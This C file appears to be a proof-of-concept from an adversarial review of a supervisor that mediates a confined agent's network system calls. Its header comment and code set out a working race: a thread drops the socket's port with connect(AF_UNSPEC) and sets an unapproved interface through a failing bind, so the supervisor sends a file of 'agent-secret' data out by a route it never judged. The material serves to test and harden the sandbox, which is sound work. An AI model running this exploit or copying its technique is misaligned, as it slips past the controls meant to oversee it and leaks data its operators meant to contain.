/* ha16-race: hostile review h-attack16 (against main 9886fc1). give_port
 * (supervisor/call.c) gives a portless datagram socket its port before the
 * supervisor reads the socket's device, so that a bind(fe80::dead%IFNAME)
 * racing the judgement fails with EINVAL before __inet6_bind writes the
 * scope id into sk_bound_dev_if (reviews h-attack14, h-attack15). The port
 * can be taken away again by a call the supervisor itself allows and
 * performs: connect(AF_UNSPEC) on a UDP socket is judged "disconnect"
 * (allowed while the socket has no device) and __udp_disconnect unhashes a
 * socket whose port the kernel chose (no SOCK_BINDPORT_LOCK: give_port
 * binds port 0), setting inet_num to 0. The failed bind then writes the
 * scope id as before c8ea553, and the supervisor's own send, whose device
 * it already judged, leaves by IFNAME.
 *
 *   disc     a second thread waits until the supervisor starts reading the
 *            payload (mincore on the first page of a file mapping dropped
 *            from the page cache: ha14-mmsg's timing), then
 *            connect(AF_UNSPEC) (mediated, allowed, performed: the port is
 *            gone) and bind(fe80::dead%IFNAME) (fails, the device stays).
 *            The main thread's sendto(::ffff:DEST, 60 KiB) leaves by IFNAME.
 *   discmmsg the same with sendmmsg of one message.
 *   udp      control: the failed bind alone (held by c8ea553: EINVAL).
 *
 *   ha16-race MODE DEST:PORT IFNAME FILE   (FILE: created by the agent)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define PAYLOAD 61440

static int sock;
static unsigned ifindex;
static unsigned char *map;
static const char *mode;
static volatile int bind_rc = 1, bind_err, disc_rc = 1, disc_err, polls;

static void *racer(void *arg)
{
	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
	struct sockaddr unspec = {.sa_family = AF_UNSPEC};
	unsigned char vec;
	(void)arg;

	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
	ll.sin6_scope_id = ifindex;
	for (long i = 0; i < 200000000L; i++) {
		if (mincore(map, 4096, &vec) == 0 && (vec & 1))
			break;
		polls++;
	}
	if (strncmp(mode, "disc", 4) == 0) {
		disc_rc = connect(sock, &unspec, sizeof(unspec));
		disc_err = errno;
	}
	bind_rc = bind(sock, (struct sockaddr *)&ll, sizeof(ll));
	bind_err = errno;
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, me;
	socklen_t ml = sizeof(me);
	char host[64], dev[IFNAMSIZ + 1] = "", *colon;
	socklen_t dl = sizeof(dev) - 1;
	pthread_t t;
	int fd;
	long rc;

	if (argc != 5) {
		fprintf(stderr, "usage: ha16-race MODE DEST:PORT IFNAME FILE\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	ifindex = if_nametoindex(argv[3]);
	fd = open(argv[4], O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0) {
		perror("agent: open");
		return 2;
	}
	for (int off = 0; off < PAYLOAD; off += 32) {
		char line[33];

		snprintf(line, sizeof(line), "agent-secret via %-14.14s;", mode);
		if (write(fd, line, 32) != 32)
			return 2;
	}
	map = mmap(NULL, PAYLOAD, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		return 2;
	madvise(map, PAYLOAD, MADV_RANDOM);
	fdatasync(fd);
	/* Dropped from the page cache before the race starts: the first
	 * page turns resident only when the supervisor reads it. */
	for (int i = 0; i < 100; i++) {
		unsigned char vec[PAYLOAD / 4096];

		posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
		if (mincore(map, PAYLOAD, vec) == 0 && !(vec[0] & 1))
			break;
		usleep(10 * 1000);
	}
	sock = socket(AF_INET6, SOCK_DGRAM, 0);
	if (pthread_create(&t, NULL, racer, NULL) != 0)
		return 2;
	usleep(1000);
	if (strcmp(mode, "discmmsg") == 0) {
		struct iovec iov = {.iov_base = map, .iov_len = PAYLOAD};
		struct mmsghdr mm = {.msg_hdr = {.msg_name = &dst,
						 .msg_namelen = sizeof(dst),
						 .msg_iov = &iov,
						 .msg_iovlen = 1}};

		rc = sendmmsg(sock, &mm, 1, 0);
	} else {
		rc = sendto(sock, map, PAYLOAD, 0, (struct sockaddr *)&dst, sizeof(dst));
	}
	printf("agent: %s send = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
	pthread_join(t, NULL);
	if (strncmp(mode, "disc", 4) == 0)
		printf("agent: racing connect(AF_UNSPEC) = %d (%s)\n", disc_rc,
		       disc_rc ? strerror(disc_err) : "ok");
	printf("agent: racing bind(fe80::dead%%%s) = %d (%s) after %d polls\n", argv[3], bind_rc,
	       bind_rc ? strerror(bind_err) : "ok", polls);
	getsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	getsockname(sock, (struct sockaddr *)&me, &ml);
	printf("agent: socket now bound to device '%s', port %u\n", dev, ntohs(me.sin6_port));
	usleep(500 * 1000);
	return 0;
}
